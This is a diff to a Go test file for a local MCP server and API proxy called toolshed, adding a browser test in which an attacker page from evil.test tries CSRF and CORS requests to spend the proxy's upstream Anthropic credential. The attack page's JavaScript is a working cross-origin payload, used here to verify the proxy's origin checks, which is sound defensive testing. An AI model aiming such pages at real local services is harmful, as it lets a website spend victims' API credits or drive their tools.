@@ -23,13 +23,14 @@ import (
 	"testing"
 	"time"
 
+	"github.com/toolshed/toolshed/internal/fakellm"
 	"github.com/toolshed/toolshed/internal/testupstream"
 )
 
 // attackPage is the attacker's page. It tries every way in against the toolshed
 // endpoints it is given and posts what it saw back to its own origin (/report).
 const attackPage = `<!doctype html><meta charset="utf-8"><title>attack</title><script>
-const targets = TARGETS;
+const targets = {loopback: TARGET};
 const init = JSON.stringify({jsonrpc: "2.0", id: 1, method: "initialize", params: {
   protocolVersion: "2025-06-18", capabilities: {}, clientInfo: {name: "page", version: "1"}}});
 const initialized = JSON.stringify({jsonrpc: "2.0", method: "notifications/initialized"});
@@ -69,6 +70,32 @@ async function run() {
 run();
 </script>`
 
+// proxyAttackPage spends the proxy's upstream credential from a web page: a simple
+// text/plain POST (no preflight), then a CORS JSON request as the Anthropic SDK makes it.
+const proxyAttackPage = `<!doctype html><meta charset="utf-8"><title>attack</title><script>
+const url = TARGET + "/v1/messages";
+const body = JSON.stringify({model: "claude-sonnet-4-5", max_tokens: 64,
+  messages: [{role: "user", content: "spend the victim's credits"}]});
+async function attempt(opts) {
+  try {
+    const r = await fetch(url, opts);
+    let text = "";
+    try { text = await r.text(); } catch (e) {}
+    return {type: r.type, status: r.status, body: text.slice(0, 300)};
+  } catch (e) {
+    return {error: String(e)};
+  }
+}
+async function run() {
+  const out = {};
+  out["csrf"] = await attempt({method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: body});
+  out["cors"] = await attempt({method: "POST", body: body,
+    headers: {"Content-Type": "application/json", "anthropic-version": "2023-06-01"}});
+  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
+}
+run();
+</script>`
+
 // attackResult is what the page saw of one attempt.
 type attackResult struct {
 	Type   string `json:"type"`
@@ -86,7 +113,7 @@ func TestBrowserAttackServe(t *testing.T) {
 	up := writeUpstreams(t)
 
 	t.Run("refused", func(t *testing.T) {
-		page := newAttackPage(t)
+		page := newAttackSite(t, attackPage)
 		got := page.run(t, bin, serveHTTP(t, up.config, "memory__create_entities"))
 		for name, r := range got {
 			switch {
@@ -108,7 +135,7 @@ func TestBrowserAttackServe(t *testing.T) {
 	})
 
 	t.Run("control: origin allowed", func(t *testing.T) {
-		page := newAttackPage(t)
+		page := newAttackSite(t, attackPage)
 		got := page.run(t, bin, serveHTTP(t, up.config, "memory__create_entities", "--allow-origin", page.origin))
 		r, ok := got["loopback cors call"]
 		if !ok || r.Status != http.StatusOK || !strings.Contains(r.Body, "PWNED") {
@@ -120,23 +147,25 @@ func TestBrowserAttackServe(t *testing.T) {
 	})
 }
 
-// attackSite serves attackPage at http://evil.test:PORT/ and collects its report.
+// attackSite serves an attack page at http://evil.test:PORT/ and collects its report.
+// The page's TARGET is replaced by the URL given to run, as a JSON string.
 type attackSite struct {
 	srv    *httptest.Server
+	html   string
 	origin string
 	report chan map[string]attackResult
-	mcpURL string
+	target string
 }
 
-func newAttackPage(t *testing.T) *attackSite {
+func newAttackSite(t *testing.T, html string) *attackSite {
 	t.Helper()
-	s := &attackSite{report: make(chan map[string]attackResult, 1)}
+	s := &attackSite{html: html, report: make(chan map[string]attackResult, 1)}
 	s.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		switch r.URL.Path {
 		case "/":
-			targets, _ := json.Marshal(map[string]string{"loopback": s.mcpURL})
+			target, _ := json.Marshal(s.target)
 			w.Header().Set("Content-Type", "text/html")
-			io.WriteString(w, strings.Replace(attackPage, "TARGETS", string(targets), 1))
+			io.WriteString(w, strings.Replace(s.html, "TARGET", string(target), 1))
 		case "/report":
 			var got map[string]attackResult
 			if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
@@ -156,11 +185,11 @@ func newAttackPage(t *testing.T) *attackSite {
 	return s
 }
 
-// run opens the page in headless Chromium against toolshed at mcpURL and returns the
+// run opens the page in headless Chromium against toolshed at target and returns the
 // page's report.
-func (s *attackSite) run(t *testing.T, bin, mcpURL string) map[string]attackResult {
+func (s *attackSite) run(t *testing.T, bin, target string) map[string]attackResult {
 	t.Helper()
-	s.mcpURL = mcpURL
+	s.target = target
 	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
 	defer cancel()
 	browser := startChromium(t, ctx, bin, s.origin+"/")
@@ -171,6 +200,39 @@ func (s *attackSite) run(t *testing.T, bin, mcpURL string) map[string]attackResu
 	case <-ctx.Done():
 		t.Fatalf("the page sent no report within 2 minutes; chromium said:\n%s", browser.String())
 		return nil
+	}
+}
+
+// TestBrowserAttackProxy lets a page from another origin try to spend toolshed proxy's
+// upstream credential: nothing may reach the model unless the page's origin is allowed.
+func TestBrowserAttackProxy(t *testing.T) {
+	bin := testupstream.Chromium(t)
+
+	model := fakellm.NewAnthropic(fakellm.Say("spent"))
+	up := httptest.NewServer(model)
+	defer up.Close()
+	page := newAttackSite(t, proxyAttackPage)
+	proxy, _ := startToolshedProxy(t, "anthropic", up.URL)
+	got := page.run(t, bin, proxy)
+	if r := got["csrf"]; r.Type != "opaque" && r.Error == "" {
+		t.Errorf("csrf: the page read the answer: %+v", r)
+	}
+	if r := got["cors"]; r.Error == "" {
+		t.Errorf("cors: the page got an answer: %+v", r)
+	}
+	if n := len(model.Requests()); n != 0 {
+		t.Fatalf("the page's requests reached the model %d times", n)
+	}
+
+	// Control: with the page's origin allowed, its CORS request does reach the model.
+	page = newAttackSite(t, proxyAttackPage)
+	proxy, _ = startToolshedProxy(t, "anthropic", up.URL, "--allow-origin", page.origin)
+	got = page.run(t, bin, proxy)
+	if r := got["cors"]; r.Status != http.StatusOK || !strings.Contains(r.Body, "spent") {
+		t.Errorf("with its origin allowed, the page's request did not go through: %+v", r)
+	}
+	if n := len(model.Requests()); n != 1 {
+		t.Errorf("with the origin allowed, the model got %d requests, want 1 (the CORS one; the text/plain one stays refused)", n)
 	}
 }
 
